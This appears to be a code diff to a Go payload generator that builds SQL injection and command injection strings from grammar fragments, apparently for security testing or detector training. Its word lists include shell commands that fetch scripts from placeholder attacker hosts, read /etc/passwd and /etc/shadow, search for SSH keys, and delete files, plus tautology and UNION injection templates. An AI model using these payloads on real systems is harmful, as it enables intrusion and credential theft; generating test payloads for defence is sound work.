@@ -5,10 +5,11 @@ func attackWords() map[string][]string {
 	return map[string][]string{
 		"q":        split("'|\"|')|'))|\")|`)|%'|' |’"),
 		"h":        split("‹num›|‹noun›|‹en-noun›|‹user›|‹email›|‹name›|‹fewwords›|‹slug›|‹uuid›|‹up4›"),
+		"h-ascii":  split("‹num›|‹en-noun›|‹user›|‹slug›|‹uuid›|‹up4›"),
 		"prose":    split("‹sentence›|‹noun› ‹noun›|‹name›|‹fewwords›|‹user›|‹emoji›"),
 		"s":        split(" | | | |/**/|+|\t|\n|  |/*‹letters›*/|\x0b|\u00a0"),
-		"tail":     split("--|-- |-- -|#|--+|;--|-- ‹letters›|;%00|/*||)--|)#"),
-		"or":       split("OR|or|Or|oR|"+"||"+"|XOR|or not|OR NOT"),
+		"tail":     split("--|-- |-- -|#|--+|;--|-- ‹letters›|;\x00|/*|)--|)#"),
+		"or":       split("OR|or|Or|oR|‹pipe›‹pipe›|XOR|or not|OR NOT"),
 		"and":      split("AND|and|And|aNd|&&"),
 		"select":   split("SELECT|select|SeLeCt|sELect|/*!50000SELECT*/|SELECT DISTINCT|select all|selEcT"),
 		"union":    split("UNION|union|UnIoN|/*!UNION*/|UNION ALL|union all|unIon(|union distinct"),
@@ -22,12 +23,14 @@ func attackWords() map[string][]string {
 		"shellcmd": split("id|whoami|uname -a|cat /etc/passwd|cat /etc/hosts|ls -la /|ps aux|env|ifconfig|netstat -an|sleep ‹secs›|ping -c ‹3..9› ‹ip›|curl http://‹evil›/‹letters›|wget http://‹evil›/‹letters›.sh -O /tmp/‹letters›|nslookup ‹letters›.‹evil›|tail -n 50 /var/log/auth.log|echo ‹hex8›|printenv|hostname|rm -rf /tmp/‹letters›|touch /tmp/‹letters›|whoami /all|dir C:\\|type C:\\Windows\\win.ini"),
 		"unixcmd":  split("id|whoami|uname -a|cat /etc/passwd|ls -la|ps aux|env|sleep ‹secs›|curl http://‹evil›/‹letters›|wget -q http://‹evil›/‹letters› -O- |nslookup ‹letters›.‹evil›|head /etc/shadow|find / -name id_rsa|echo ‹hex8›"),
 		"evil":     split("‹letters›.‹oob|collab|dnslog|callback›.‹example|test|invalid›|‹ip›|‹ip›:‹4000..9999›|‹letters›‹num›.evil.example|attacker.‹letters›.example|x.‹letters›.test"),
-		"sep":      split(";|&&|"+"||"+"|&| ; | && |\n"),
+		"sep":      split(";|&&|‹pipe›‹pipe›|&| ; | && |\n|;;|\n\n"),
 	}
 }
 
 func attackSQL() []family {
-	sqli := func(name string, say ...string) family { return family{name: "sqli/" + name, class: "sqli", at: fieldSpots(), say: say} }
+	sqli := func(name string, say ...string) family {
+		return family{name: "sqli/" + name, class: "sqli", at: fieldSpots(), say: say}
+	}
 	return []family{
 		sqli("tautology", "‹h›‹q›‹s›‹or›‹s›‹true›‹s›‹tail›", "‹h›'‹s›‹or›‹s›‹quoted›", "‹num›‹s›‹or›‹s›‹true›", "‹h›‹q›‹s›‹and›‹s›‹true›‹tail›", "‹num›)‹s›‹or›‹s›(‹true›"),
 		sqli("union-tail", "‹h›‹q›‹s›‹union›‹s›‹select›‹s›‹cols›‹s›‹from›‹s›‹table›‹tail›", "-‹1..9›‹s›‹union›‹s›‹select›‹s›‹cols›‹tail›", "‹num›)‹s›‹union›‹s›‹select›‹s›‹cols›‹s›‹from›‹s›‹table›‹tail›"),
